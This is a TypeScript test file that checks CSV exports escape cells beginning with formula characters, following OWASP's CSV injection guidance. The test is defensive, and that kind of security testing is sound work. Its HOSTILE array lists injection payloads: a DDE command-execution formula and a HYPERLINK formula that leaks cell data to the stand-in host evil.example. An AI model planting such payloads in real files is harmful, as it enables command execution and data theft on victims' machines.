// Exports are safe to open in a spreadsheet (OWASP's CSV injection rule, both databases): every cell
// that begins with =, +, -, @, a tab or a carriage return comes out with a leading apostrophe, so a
// spreadsheet shows it as text and runs nothing; the file still parses back to every cell.
import { parse } from 'csv-parse/sync';
import { databaseSuite } from '../../helpers/suite';
import { CSV_HEADER, createUpload, sendFile, uploadCampaign } from '../../helpers/audience';

const { test } = databaseSuite();

const HOSTILE = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '@SUM(1+1)',
  '+1+1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
];

test('a hostile cell is written so no spreadsheet runs it', async (t, { api, engine }) => {
  const campaignId = await uploadCampaign(t, api);
  const uploadId = await createUpload(t, api, campaignId);
  const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
  // each hostile value as a name (a failed row: no state) and as the merge variable of a good row
  const lines = [CSV_HEADER];
  HOSTILE.forEach((cell, i) => {
    lines.push(`${quote(cell)},${i + 1} Main St,,Springfield,,62701,X,s1`);
    lines.push(`Good ${i},${i + 1} King St,,San Francisco,CA,94107,${quote(cell)},s1`);
  });
  const sent = await sendFile(engine.url, engine.keys.test, uploadId, `${lines.join('\r\n')}\r\n`);
  t.is(sent.status, 200, JSON.stringify(sent.body));
  const exported = await api('POST', `/v1/uploads/${uploadId}/exports`, { json: { type: 'all' } });
  t.is(exported.status, 200, JSON.stringify(exported.body));
  const shown = (await api('GET', `/v1/uploads/${uploadId}/exports/${exported.body.exportId}`)).body;
  const csv = await (await fetch(shown.s3Url)).text();
  const rows = parse(csv, { relax_column_count: true }) as string[][];
  const cells = rows.slice(1).flat();
  for (const cell of cells)
    t.false(/^[=+\-@\t\r]/.test(cell), `a cell a spreadsheet would run: ${JSON.stringify(cell)}`);
  for (const hostile of HOSTILE) t.true(cells.includes(`'${hostile}`), `${JSON.stringify(hostile)} is kept, as text`);
});
